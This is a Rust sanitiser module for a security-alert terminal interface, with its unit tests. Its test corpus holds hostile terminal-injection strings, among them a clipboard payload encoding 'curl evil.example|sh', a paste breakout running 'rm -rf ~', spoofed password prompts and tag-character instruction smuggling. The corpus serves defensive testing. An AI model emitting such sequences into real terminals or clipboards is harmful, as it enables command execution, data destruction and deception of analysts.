//! The one sanitiser for attacker-controlled text.
//!
//! Every string that comes from an alert (process names, command lines, paths, user and host
//! names, reasons, notes, …) passes through [`sanitize`] (or [`display_safe`] / [`title_safe`])
//! before it reaches a widget, a window title, a log line shown on screen, or the clipboard
//! sequence. Nothing attacker-controlled reaches the terminal raw (kubectl CVE-2021-25743,
//! git CVE-2024-52005).
//!
//! # What is escaped
//!
//! A character is *hidden* (see [`is_hidden`]) when it is, per Unicode 16.0:
//!
//! * `Cc` — every C0 control (NUL…US, including TAB, LF, CR, BEL, BS, ESC), DEL and every C1
//!   control (U+0080–U+009F, e.g. the 8-bit CSI U+009B and OSC U+009D);
//! * `Cf` — every format character: bidi marks, embeddings, overrides and isolates
//!   (U+200E/F, U+202A–202E, U+2066–2069, U+061C), zero-width space/joiners (U+200B–200D),
//!   word joiner and invisible operators (U+2060–2064), U+206A–206F, BOM (U+FEFF), soft hyphen
//!   (U+00AD), U+180E, the interlinear annotation controls (U+FFF9–FFFB), the prepended
//!   concatenation marks (U+0600–0605, U+06DD, U+070F, U+0890–0891, U+08E2, U+110BD, U+110CD),
//!   Egyptian hieroglyph, shorthand and musical format controls, and the tag characters
//!   (U+E0001, U+E0020–E007F);
//! * `Zl` / `Zp` — U+2028 LINE SEPARATOR and U+2029 PARAGRAPH SEPARATOR;
//! * `Default_Ignorable_Code_Point` — the remaining invisible code points that are not `Cf`:
//!   combining grapheme joiner U+034F, Hangul fillers (U+115F, U+1160, U+3164, U+FFA0), Khmer
//!   U+17B4/17B5, Mongolian free variation selectors (U+180B–180D, U+180F), variation selectors
//!   (U+FE00–FE0F, U+E0100–E01EF) and the reserved ignorable ranges (U+2065, U+FFF0–FFF8,
//!   U+E0000–E0FFF). They render as nothing, so they can make two different process names look
//!   identical; an emoji with VS16 or a CJK ideographic variation sequence is therefore flagged.
//!
//! Everything else — printable ASCII, Latin, CJK (including double-width Japanese), Hangul
//! syllables, Arabic and Hebrew letters, emoji, private-use characters — passes unchanged.
//!
//! # Escape format
//!
//! A hidden character becomes a visible escape: `\x1b` (two lower-case hex digits) for
//! U+0000–U+00FF, `\u202e` (four) for the rest of the BMP and `\u{e0041}` for astral planes.
//! A backslash in the input is *not* escaped, so the transformation is idempotent; what tells a
//! real escape from literal text that merely looks like one is the distinct style that
//! [`Safe::to_spans`] puts on escapes, and the row flag ([`Safe::is_flagged`]).
//!
//! # Length
//!
//! Output is capped in `char`s ([`DISPLAY_CAP`] by default, [`sanitize_with_cap`] for a larger
//! "whole command line" view). When the input does not fit, the output ends with `…`
//! ([`TRUNCATION_MARKER`], counted toward the cap); an escape is never cut in half. Hidden
//! characters after the cut still flag the string, so a control character cannot be smuggled
//! past the badge by padding.

use std::fmt;
use std::ops::Range;

use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span};

/// Default cap on the sanitised output, in `char`s (escapes and `…` included).
pub const DISPLAY_CAP: usize = 4096;

/// A suggested cap for views that show a whole field (e.g. "show whole command line"). Windows
/// command lines are at most 32 767 UTF-16 units; escapes expand a hidden character to at most
/// ten `char`s, so this fits any real command line even when it is full of escapes.
pub const DETAIL_CAP: usize = 262_144;

/// Cap on [`title_safe`] output, in `char`s (ASCII).
pub const TITLE_CAP: usize = 120;

/// Appended when the output was cut to fit its cap.
pub const TRUNCATION_MARKER: char = '…';

/// Marker used by [`title_safe`], which is ASCII-only.
const TITLE_TRUNCATION_MARKER: &str = "...";

/// A reasonable default style for escapes when the caller has no theme: black on yellow, bold.
pub const ESCAPE_STYLE: Style = Style::new()
    .fg(Color::Black)
    .bg(Color::Yellow)
    .add_modifier(Modifier::BOLD);

/// Default cap on the raw payload of [`osc52_copy`], in bytes. hterm and several multiplexers
/// drop OSC 52 sequences above ~100 kB of base64; 64 KiB of payload stays below that.
pub const OSC52_DEFAULT_MAX: usize = 65_536;

/// Hidden code points: the union of `Cc`, `Cf`, `Zl`, `Zp` and `Default_Ignorable_Code_Point`
/// from Unicode 16.0.0 (`UnicodeData.txt`, `DerivedCoreProperties.txt`). Sorted, inclusive,
/// non-overlapping; looked up by binary search. `Cf` ranges are marked.
const HIDDEN: &[(u32, u32)] = &[
    (0x0000, 0x001F),   // Cc: C0 controls (NUL, BEL, BS, TAB, LF, VT, FF, CR, ESC, …)
    (0x007F, 0x009F),   // Cc: DEL and C1 controls (U+009B CSI, U+009D OSC, U+0090 DCS, …)
    (0x00AD, 0x00AD),   // Cf: SOFT HYPHEN
    (0x034F, 0x034F),   // DI: COMBINING GRAPHEME JOINER
    (0x0600, 0x0605),   // Cf: Arabic number signs (prepended concatenation marks)
    (0x061C, 0x061C),   // Cf: ARABIC LETTER MARK
    (0x06DD, 0x06DD),   // Cf: ARABIC END OF AYAH
    (0x070F, 0x070F),   // Cf: SYRIAC ABBREVIATION MARK
    (0x0890, 0x0891),   // Cf: Arabic pound/piastre mark above
    (0x08E2, 0x08E2),   // Cf: ARABIC DISPUTED END OF AYAH
    (0x115F, 0x1160),   // DI: Hangul choseong/jungseong fillers
    (0x17B4, 0x17B5),   // DI: Khmer inherent vowels
    (0x180B, 0x180D),   // DI: Mongolian free variation selectors 1–3
    (0x180E, 0x180E),   // Cf: MONGOLIAN VOWEL SEPARATOR
    (0x180F, 0x180F),   // DI: Mongolian free variation selector 4
    (0x200B, 0x200F),   // Cf: ZWSP, ZWNJ, ZWJ, LRM, RLM
    (0x2028, 0x2028),   // Zl: LINE SEPARATOR
    (0x2029, 0x2029),   // Zp: PARAGRAPH SEPARATOR
    (0x202A, 0x202E),   // Cf: LRE, RLE, PDF, LRO, RLO
    (0x2060, 0x2064),   // Cf: WORD JOINER, invisible operators
    (0x2065, 0x2065),   // DI: reserved
    (0x2066, 0x206F),   // Cf: LRI, RLI, FSI, PDI, deprecated format characters
    (0x3164, 0x3164),   // DI: HANGUL FILLER
    (0xFE00, 0xFE0F),   // DI: variation selectors 1–16
    (0xFEFF, 0xFEFF),   // Cf: ZERO WIDTH NO-BREAK SPACE (BOM)
    (0xFFA0, 0xFFA0),   // DI: HALFWIDTH HANGUL FILLER
    (0xFFF0, 0xFFF8),   // DI: reserved
    (0xFFF9, 0xFFFB),   // Cf: interlinear annotation anchor/separator/terminator
    (0x110BD, 0x110BD), // Cf: KAITHI NUMBER SIGN
    (0x110CD, 0x110CD), // Cf: KAITHI NUMBER SIGN ABOVE
    (0x13430, 0x1343F), // Cf: Egyptian hieroglyph format controls
    (0x1BCA0, 0x1BCA3), // Cf: shorthand format controls
    (0x1D173, 0x1D17A), // Cf: musical symbol format controls
    (0xE0000, 0xE0000), // DI: reserved
    (0xE0001, 0xE0001), // Cf: LANGUAGE TAG
    (0xE0002, 0xE001F), // DI: reserved
    (0xE0020, 0xE007F), // Cf: tag characters (ASCII smuggling)
    (0xE0080, 0xE0FFF), // DI: variation selectors 17–256 and reserved
];

/// Whether `c` is a character that must never reach the terminal raw (see the module docs).
pub fn is_hidden(c: char) -> bool {
    let cp = u32::from(c);
    if cp < 0x7F {
        return cp < 0x20;
    }
    HIDDEN
        .binary_search_by(|&(lo, hi)| {
            if hi < cp {
                std::cmp::Ordering::Less
            } else if lo > cp {
                std::cmp::Ordering::Greater
            } else {
                std::cmp::Ordering::Equal
            }
        })
        .is_ok()
}

/// Length in `char`s of the escape for `c`.
fn escape_len(c: char) -> usize {
    match u32::from(c) {
        0..=0xFF => 4,            // \xHH
        0x100..=0xFFFF => 6,      // \uHHHH
        0x1_0000..=0xF_FFFF => 9, // \u{HHHHH}
        _ => 10,                  // \u{HHHHHH}
    }
}

fn push_escape(out: &mut String, c: char) {
    use fmt::Write as _;
    let cp = u32::from(c);
    // Writing to a String cannot fail.
    let _ = match cp {
        0..=0xFF => write!(out, "\\x{cp:02x}"),
        0x100..=0xFFFF => write!(out, "\\u{cp:04x}"),
        _ => write!(out, "\\u{{{cp:x}}}"),
    };
}

/// Attacker-controlled text made safe for display.
///
/// Only [`sanitize`] and [`sanitize_with_cap`] build one, so holding a `Safe` means the text
/// contains no hidden character. `escapes` are the byte ranges of `text` that are escapes (one
/// range per hidden character, in order).
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash)]
pub struct Safe {
    text: String,
    escapes: Vec<Range<usize>>,
    truncated: bool,
    /// Hidden characters in the whole input, including any cut off by the cap.
    hidden: usize,
}

impl Safe {
    /// The sanitised text (escapes are literal `\x..`/`\u..` text here).
    pub fn as_str(&self) -> &str {
        &self.text
    }

    pub fn into_string(self) -> String {
        self.text
    }

    /// Byte ranges of [`Self::as_str`] that are escapes, sorted and non-overlapping.
    pub fn escapes(&self) -> &[Range<usize>] {
        &self.escapes
    }

    /// The input contained at least one hidden character (anywhere, including past the cap).
    /// A control character in a process name is itself a finding: show the "hidden chars" badge.
    pub fn is_flagged(&self) -> bool {
        self.hidden > 0
    }

    /// Number of hidden characters in the whole input (escaped ones plus any cut off).
    pub fn hidden_count(&self) -> usize {
        self.hidden
    }

    /// The output was cut to the cap and ends with [`TRUNCATION_MARKER`].
    pub fn is_truncated(&self) -> bool {
        self.truncated
    }

    /// Spans for a widget: plain text in `base`, escapes (adjacent ones merged) in `escape`.
    pub fn to_spans(&self, base: Style, escape: Style) -> Vec<Span<'static>> {
        let mut spans = Vec::with_capacity(2 * self.escapes.len() + 1);
        let mut pos = 0;
        let mut i = 0;
        while i < self.escapes.len() {
            let start = self.escapes[i].start;
            let mut end = self.escapes[i].end;
            i += 1;
            while i < self.escapes.len() && self.escapes[i].start == end {
                end = self.escapes[i].end;
                i += 1;
            }
            if pos < start {
                spans.push(Span::styled(self.text[pos..start].to_owned(), base));
            }
            spans.push(Span::styled(self.text[start..end].to_owned(), escape));
            pos = end;
        }
        if pos < self.text.len() {
            spans.push(Span::styled(self.text[pos..].to_owned(), base));
        }
        spans
    }

    /// [`Self::to_spans`] as one [`Line`].
    pub fn to_line(&self, base: Style, escape: Style) -> Line<'static> {
        Line::from(self.to_spans(base, escape))
    }
}

impl fmt::Display for Safe {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl AsRef<str> for Safe {
    fn as_ref(&self) -> &str {
        &self.text
    }
}

/// Sanitise with the default cap ([`DISPLAY_CAP`]).
pub fn sanitize(s: &str) -> Safe {
    sanitize_with_cap(s, DISPLAY_CAP)
}

/// Sanitise with an explicit cap in `char`s (escapes and `…` count toward it).
pub fn sanitize_with_cap(s: &str, cap: usize) -> Safe {
    sanitize_impl(
        s,
        cap,
        is_hidden,
        TRUNCATION_MARKER.encode_utf8(&mut [0; 4]),
    )
}

/// Plain sanitised text, for places that take a `String` (no escape styling, so prefer
/// [`sanitize`] + [`Safe::to_spans`] in widgets).
pub fn display_safe(s: &str) -> String {
    sanitize(s).text
}

/// A window-title-safe rendering: printable ASCII only (every other character is escaped,
/// non-ASCII included), at most [`TITLE_CAP`] chars, ending in `...` when cut.
pub fn title_safe(s: &str) -> String {
    sanitize_impl(
        s,
        TITLE_CAP,
        |c| !matches!(c, ' '..='~'),
        TITLE_TRUNCATION_MARKER,
    )
    .text
}

/// The OSC 2 sequence setting the window title to [`title_safe`]`(s)`, terminated by ST.
/// (With crossterm, `SetTitle(title_safe(s))` is equivalent.)
pub fn title_sequence(s: &str) -> String {
    format!("\x1b]2;{}\x1b\\", title_safe(s))
}

/// An OSC 52 "copy to clipboard" sequence for `payload`, or `None` when `payload` is longer
/// than `max_bytes` (raw UTF-8 bytes, before base64; see [`OSC52_DEFAULT_MAX`]).
///
/// The payload is base64-encoded, so the sequence contains exactly two ESC bytes (the
/// introducer and the ST terminator) and no BEL whatever `payload` holds. The *clipboard*
/// receives `payload` as given: copy a raw field only on an explicit "copy raw value" action, as
/// pasting control characters into a shell is its own hazard.
pub fn osc52_copy(payload: &str, max_bytes: usize) -> Option<String> {
    if payload.len() > max_bytes {
        return None;
    }
    let mut out = String::with_capacity(9 + payload.len().div_ceil(3) * 4);
    out.push_str("\x1b]52;c;");
    base64_encode_into(payload.as_bytes(), &mut out);
    out.push_str("\x1b\\");
    Some(out)
}

fn base64_encode_into(bytes: &[u8], out: &mut String) {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let sym = |n: u32| char::from(ALPHABET[(n & 0x3F) as usize]);
    let mut chunks = bytes.chunks_exact(3);
    for c in &mut chunks {
        let n = (u32::from(c[0]) << 16) | (u32::from(c[1]) << 8) | u32::from(c[2]);
        out.extend([sym(n >> 18), sym(n >> 12), sym(n >> 6), sym(n)]);
    }
    match *chunks.remainder() {
        [a] => {
            let n = u32::from(a) << 16;
            out.extend([sym(n >> 18), sym(n >> 12), '=', '=']);
        }
        [a, b] => {
            let n = (u32::from(a) << 16) | (u32::from(b) << 8);
            out.extend([sym(n >> 18), sym(n >> 12), sym(n >> 6), '=']);
        }
        _ => {}
    }
}

fn sanitize_impl(s: &str, cap: usize, hide: impl Fn(char) -> bool, marker: &str) -> Safe {
    let marker_len = marker.chars().count();
    // Chars allowed before the marker when the input has to be cut.
    let budget = cap.saturating_sub(marker_len);
    let mut text = String::with_capacity(s.len().min(cap.saturating_mul(4)).min(1 << 16));
    let mut escapes = Vec::new();
    let mut used = 0usize;
    let mut hidden = 0usize;
    // Last piece boundary (bytes of `text`, len of `escapes`) with `used <= budget`.
    let mut cut = (0usize, 0usize);
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if used <= budget {
            cut = (text.len(), escapes.len());
        }
        let h = hide(c);
        let len = if h { escape_len(c) } else { 1 };
        if used + len > cap {
            // Does not fit: cut back to the last boundary that leaves room for the marker.
            hidden += usize::from(h) + chars.filter(|&c| hide(c)).count();
            text.truncate(cut.0);
            escapes.truncate(cut.1);
            text.extend(marker.chars().take(cap));
            return Safe {
                text,
                escapes,
                truncated: true,
                hidden,
            };
        }
        if h {
            let start = text.len();
            push_escape(&mut text, c);
            escapes.push(start..text.len());
            hidden += 1;
        } else {
            text.push(c);
        }
        used += len;
    }
    Safe {
        text,
        escapes,
        truncated: false,
        hidden,
    }
}

/// Hostile strings shared by the tests (RELIABILITY A1). Not part of the API.
#[doc(hidden)]
pub mod corpus {
    /// `(name, payload)` pairs. Every payload contains at least one hidden character within its
    /// first 80 chars, so the escape is visible in any reasonably wide view.
    pub fn hostile_corpus() -> Vec<(&'static str, String)> {
        let fixed: &[(&'static str, &'static str)] = &[
            // OSC
            ("osc0_title_bel", "svchost.exe\x1b]0;pwned\x07"),
            ("osc2_title_st", "\x1b]2;Administrator: cmd.exe\x1b\\"),
            (
                "osc8_hyperlink",
                "\x1b]8;;https://evil.example/payload\x1b\\microsoft.com\x1b]8;;\x1b\\",
            ),
            (
                "osc52_clipboard_set",
                "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
            ),
            ("osc52_clipboard_query", "\x1b]52;c;?\x07"),
            ("osc4_palette", "\x1b]4;1;rgb:00/00/00\x07red text"),
            ("osc11_bg_query", "\x1b]11;?\x1b\\"),
            ("osc7_cwd", "\x1b]7;file://evil/tmp\x07"),
            (
                "osc9_notify",
                "\x1b]9;Your session expired, re-enter password\x07",
            ),
            ("osc777_notify", "\x1b]777;notify;SOC;approve all\x07"),
            (
                "osc1337_iterm_file",
                "\x1b]1337;File=name=eA==;inline=1:AAAA\x07",
            ),
            ("osc_8bit_c1", "\u{9d}0;pwned\u{9c}"),
            // CSI
            ("csi_clear_screen", "\x1b[2J\x1b[H"),
            (
                "csi_cursor_up_overwrite",
                "evil.exe\x1b[1A\x1b[2Ksvchost.exe",
            ),
            ("csi_cursor_position", "\x1b[10;10Hinjected"),
            ("csi_cursor_back", "malware.exe\x1b[11Dnotepad.exe"),
            ("csi_conceal", "\x1b[8mhidden\x1b[0m visible"),
            ("csi_sgr_fake_green", "\x1b[32mRESOLVED\x1b[0m"),
            ("csi_erase_line", "\x1b[2K\x1b[1G"),
            ("csi_scroll_region", "\x1b[1;1r"),
            ("csi_dsr_query", "\x1b[6n"),
            ("csi_da_query", "\x1b[c"),
            ("csi_title_report", "\x1b[21t"),
            ("csi_alt_screen_off", "\x1b[?1049l"),
            ("csi_mouse_on", "\x1b[?1000h\x1b[?1006h"),
            ("csi_sync_update_freeze", "\x1b[?2026h"),
            ("csi_bracketed_paste_end", "\x1b[201~rm -rf ~\r"),
            ("csi_kitty_keyboard", "\x1b[>1u"),
            ("csi_8bit_c1", "\u{9b}2J\u{9b}H"),
            // DCS / APC / PM / SOS and other ESC sequences
            ("dcs_xtgettcap", "\x1bP+q544e\x1b\\"),
            ("dcs_decrqss", "\x1bP$qm\x1b\\"),
            ("dcs_sixel", "\x1bPq#0;2;0;0;0#0!6~-\x1b\\"),
            ("dcs_8bit_c1", "\u{90}q\u{9c}"),
            ("apc_kitty_graphics", "\x1b_Gf=100,a=T;AAAA\x1b\\"),
            ("pm_privacy", "\x1b^privacy message\x1b\\"),
            ("sos_string", "\x1bXstart of string\x1b\\"),
            ("esc_full_reset", "\x1bc"),
            ("esc_decaln_fill", "\x1b#8"),
            ("esc_save_restore_cursor", "\x1b7evil\x1b8good"),
            ("esc_reverse_index", "\x1bM\x1bM"),
            ("esc_charset_line_drawing", "\x1b(0lqqk\x1b(B"),
            ("shift_out_in", "a\x0eqqq\x0fb"),
            ("c1_nel_ind_ss2_ss3", "a\u{85}b\u{84}c\u{8e}d\u{8f}e"),
            ("esc_at_end", "powershell.exe\x1b"),
            // Plain C0 / DEL
            ("bel", "ping\x07\x07\x07"),
            (
                "backspace_overwrite",
                "calc.exe\x08\x08\x08\x08\x08\x08\x08\x08notepad",
            ),
            ("carriage_return", "evil.exe\rsvchost.exe"),
            ("line_feed_fake_row", "host1\nFAKE-ROW"),
            ("crlf_log_forge", "user\r\n2024-01-01 INFO login ok"),
            ("tab", "cmd.exe\t/c\twhoami"),
            ("vt_ff", "a\x0bb\x0cc"),
            ("del", "abc\x7f\x7f"),
            ("nul", "lsass\0.exe"),
            // Bidi
            ("rlo_extension_spoof", "invoice\u{202e}fdp.exe"),
            (
                "lre_rle_pdf_lro",
                "\u{202a}a\u{202b}b\u{202c}c\u{202d}d\u{202c}",
            ),
            (
                "isolates_lri_rli_fsi_pdi",
                "\u{2066}a\u{2069}\u{2067}b\u{2069}\u{2068}c\u{2069}",
            ),
            (
                "trojan_source",
                "/*\u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */",
            ),
            ("lrm_rlm", "a\u{200e}b\u{200f}c"),
            ("arabic_letter_mark", "x\u{061c}y"),
            // Zero-width / invisible
            ("zwsp", "power\u{200b}shell.exe"),
            ("zwnj_zwj", "svc\u{200c}host\u{200d}.exe"),
            ("bom", "\u{feff}cmd.exe"),
            (
                "word_joiner_invisible_ops",
                "a\u{2060}b\u{2061}c\u{2062}d\u{2063}e\u{2064}",
            ),
            (
                "deprecated_format",
                "\u{206a}\u{206b}\u{206c}\u{206d}\u{206e}\u{206f}",
            ),
            ("soft_hyphen", "rund\u{ad}ll32.exe"),
            ("mongolian_vowel_sep", "a\u{180e}b"),
            ("interlinear_annotation", "\u{fff9}base\u{fffa}ruby\u{fffb}"),
            ("line_separator", "first\u{2028}second"),
            ("paragraph_separator", "first\u{2029}second"),
            ("hangul_filler", "svchost\u{3164}.exe"),
            ("combining_grapheme_joiner", "cmd\u{34f}.exe"),
            ("variation_selector_on_ascii", "lsass\u{fe0f}.exe"),
            ("arabic_number_sign", "\u{0600}123"),
            ("kaithi_number_sign", "\u{110bd}1"),
            ("egyptian_format", "\u{13430}\u{1343f}"),
            ("shorthand_format", "\u{1bca0}\u{1bca3}"),
            ("musical_format", "\u{1d173}\u{1d17a}"),
            // Tag characters: "ignore previous instructions" smuggled as tags
            (
                "tag_chars_ascii_smuggling",
                "notepad.exe\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}",
            ),
            // Mixed with double-width text
            ("japanese_with_csi", "ﾌﾟﾛｾｽ\x1b[2J日本語のプロセス名"),
            ("japanese_with_rlo", "請求書\u{202e}fdp.exe"),
        ];
        let mut corpus: Vec<(&'static str, String)> = fixed
            .iter()
            .map(|&(name, s)| (name, s.to_owned()))
            .collect();
        corpus.push(("all_c0_controls", (0u8..0x20).map(char::from).collect()));
        corpus.push((
            "all_c1_controls",
            (0x80u32..0xA0).filter_map(char::from_u32).collect(),
        ));
        corpus.push((
            "all_tag_chars",
            (0xE0000u32..=0xE007F).filter_map(char::from_u32).collect(),
        ));
        corpus.push(("csi_flood_64k", "\x1b[31m".repeat(65_536 / 5)));
        corpus.push((
            "esc_then_64k",
            format!("\x1b]0;t\x07{}", "A".repeat(64 * 1024)),
        ));
        corpus.push(("rlo_flood_64k", "\u{202e}x".repeat(64 * 1024 / 4)));
        corpus.push(("zalgo_with_nul", format!("\0z{}", "\u{301}".repeat(200))));
        corpus
    }

    /// Strings that must pass through unchanged and unflagged.
    pub fn benign_corpus() -> Vec<(&'static str, String)> {
        [
            (
                "ascii_process",
                "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
            ),
            (
                "literal_backslash_escape",
                "echo \\x1b[2J \\u202e \\u{e0041}",
            ),
            (
                "japanese_halfwidth_fullwidth",
                "ﾌﾟﾛｾｽ 日本語のプロセス名 ｱｲｳ ＡＢＣ",
            ),
            ("chinese", "恶意软件.exe"),
            ("korean", "악성코드.exe"),
            ("hebrew_arabic_letters", "שלום مرحبا"),
            ("latin_accents", "Ünïcödé café naïve"),
            ("emoji_plain", "🚨🔥💀"),
            ("private_use", "\u{e000}\u{f8ff}\u{f0000}"),
            ("combining_accent", "e\u{301}"),
            ("nbsp_and_spaces", "a\u{a0}b\u{2003}c\u{3000}d"),
            ("ellipsis", "already cut…"),
        ]
        .into_iter()
        .map(|(n, s)| (n, s.to_owned()))
        .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_is_sorted_and_disjoint() {
        for w in HIDDEN.windows(2) {
            assert!(w[0].0 <= w[0].1 && w[0].1 < w[1].0, "{w:x?}");
        }
    }

    #[test]
    fn hidden_set_size_is_exact() {
        let n = (0..=0x10FFFFu32)
            .filter_map(char::from_u32)
            .filter(|&c| is_hidden(c))
            .count();
        // Cc 65 + Cf 170 + Zl 1 + Zp 1 + DI-not-Cf 4 036 (mostly U+E0080–E0FFF).
        let expected: u32 = HIDDEN.iter().map(|(lo, hi)| hi - lo + 1).sum();
        assert_eq!(n, expected as usize);
        assert_eq!(n, 4273);
    }

    #[test]
    fn every_cc_is_hidden_and_nothing_else_below_0xad() {
        for cp in 0..0x100u32 {
            let c = char::from_u32(cp).unwrap();
            assert_eq!(is_hidden(c), c.is_control() || cp == 0xAD, "U+{cp:04X}");
        }
    }

    #[test]
    fn escape_formats() {
        assert_eq!(display_safe("\x1b"), "\\x1b");
        assert_eq!(display_safe("\0"), "\\x00");
        assert_eq!(display_safe("\u{9b}"), "\\x9b");
        assert_eq!(display_safe("\u{ad}"), "\\xad");
        assert_eq!(display_safe("\u{202e}"), "\\u202e");
        assert_eq!(display_safe("\u{feff}"), "\\ufeff");
        assert_eq!(display_safe("\u{e0041}"), "\\u{e0041}");
        assert_eq!(display_safe("\u{110bd}"), "\\u{110bd}");
        for c in ['\0', '\u{9f}', '\u{202e}', '\u{e0041}', '\u{110bd}'] {
            let s = display_safe(c.encode_utf8(&mut [0; 4]));
            assert_eq!(s.chars().count(), escape_len(c), "{s}");
        }
    }

    #[test]
    fn escapes_ranges_and_flag() {
        let s = sanitize("a\x1b[2Jb\u{202e}");
        assert_eq!(s.as_str(), "a\\x1b[2Jb\\u202e");
        assert_eq!(s.escapes(), &[1..5, 9..15]);
        assert!(s.is_flagged());
        assert_eq!(s.hidden_count(), 2);
        assert!(!s.is_truncated());
        let clean = sanitize("svchost.exe");
        assert!(!clean.is_flagged());
        assert!(clean.escapes().is_empty());
    }

    #[test]
    fn spans_merge_adjacent_escapes() {
        let s = sanitize("a\r\nb");
        let spans = s.to_spans(Style::new(), ESCAPE_STYLE);
        let parts: Vec<(&str, Style)> = spans.iter().map(|s| (&*s.content, s.style)).collect();
        assert_eq!(
            parts,
            vec![
                ("a", Style::new()),
                ("\\x0d\\x0a", ESCAPE_STYLE),
                ("b", Style::new())
            ]
        );
        assert!(sanitize("").to_spans(Style::new(), ESCAPE_STYLE).is_empty());
    }

    #[test]
    fn printable_ascii_and_wide_text_unchanged() {
        let ascii: String = (0x20u8..0x7F).map(char::from).collect();
        assert_eq!(display_safe(&ascii), ascii);
        for (name, s) in corpus::benign_corpus() {
            let safe = sanitize(&s);
            assert_eq!(safe.as_str(), s, "{name}");
            assert!(!safe.is_flagged(), "{name}");
        }
    }

    #[test]
    fn cap_counts_marker_and_never_splits_escapes() {
        let s = sanitize_with_cap("abcdef", 4);
        assert_eq!(s.as_str(), "abc…");
        assert!(s.is_truncated());
        assert_eq!(sanitize_with_cap("abcd", 4).as_str(), "abcd");
        // "ab" + "\x1b" (4) = 6 > 5: the escape does not fit whole, cut before it.
        let s = sanitize_with_cap("ab\x1bcd", 5);
        assert_eq!(s.as_str(), "ab…");
        assert!(s.escapes().is_empty());
        assert!(s.is_flagged(), "hidden char past the cut still flags");
        let s = sanitize_with_cap("ab\x1bcd", 7);
        assert_eq!(s.as_str(), "ab\\x1b…");
        assert_eq!(s.escapes(), &[Range { start: 2, end: 6 }]);
        assert_eq!(sanitize_with_cap("abc", 0).as_str(), "");
        assert_eq!(sanitize_with_cap("abc", 1).as_str(), "…");
        assert_eq!(sanitize_with_cap("", 0).as_str(), "");
    }

    #[test]
    fn control_after_cap_flags_the_string() {
        let s = format!("{}\x1b]0;pwned\x07", "A".repeat(10_000));
        let safe = sanitize(&s);
        assert!(safe.is_truncated());
        assert!(safe.escapes().is_empty());
        assert_eq!(safe.hidden_count(), 2);
        assert!(safe.is_flagged());
        assert_eq!(safe.as_str().chars().count(), DISPLAY_CAP);
        assert!(safe.as_str().ends_with(TRUNCATION_MARKER));
    }

    #[test]
    fn idempotent_on_corpus() {
        for (name, s) in corpus::hostile_corpus() {
            let once = display_safe(&s);
            assert_eq!(display_safe(&once), once, "{name}");
            assert!(once.chars().count() <= DISPLAY_CAP, "{name}");
        }
    }

    #[test]
    fn base64_rfc4648_vectors() {
        for (i, o) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            let mut s = String::new();
            base64_encode_into(i.as_bytes(), &mut s);
            assert_eq!(s, o);
        }
        let mut s = String::new();
        base64_encode_into(&[0xFB, 0xFF, 0xBF], &mut s);
        assert_eq!(s, "+/+/");
    }

    #[test]
    fn osc52_and_title_builders() {
        let seq = osc52_copy("\x1b]0;x\x07\x1b\\", 64).unwrap();
        assert!(seq.starts_with("\x1b]52;c;") && seq.ends_with("\x1b\\"));
        assert_eq!(seq.matches('\x1b').count(), 2);
        assert!(!seq.contains('\x07'));
        assert_eq!(osc52_copy("abcd", 3), None);
        assert!(osc52_copy("abc", 3).is_some());

        let t = title_safe("naïve\x1b]0;x\x07 \u{202e}");
        assert_eq!(t, "na\\xefve\\x1b]0;x\\x07 \\u202e");
        let long = title_safe(&"é".repeat(500));
        assert!(long.len() <= TITLE_CAP && long.ends_with("..."));
        assert!(long.bytes().all(|b| (0x20..0x7F).contains(&b)));
        let seq = title_sequence("\x1b]0;x\x07");
        assert_eq!(seq.matches('\x1b').count(), 2);
        assert!(!seq.contains('\x07'));
    }

    #[test]
    fn corpus_is_large_and_escapes_are_early() {
        let c = corpus::hostile_corpus();
        assert!(c.len() >= 60, "{}", c.len());
        let mut names: Vec<_> = c.iter().map(|(n, _)| *n).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), c.len(), "duplicate corpus names");
        for (name, s) in &c {
            assert!(
                s.chars().take(80).any(is_hidden),
                "{name}: no hidden char in the first 80"
            );
        }
    }
}
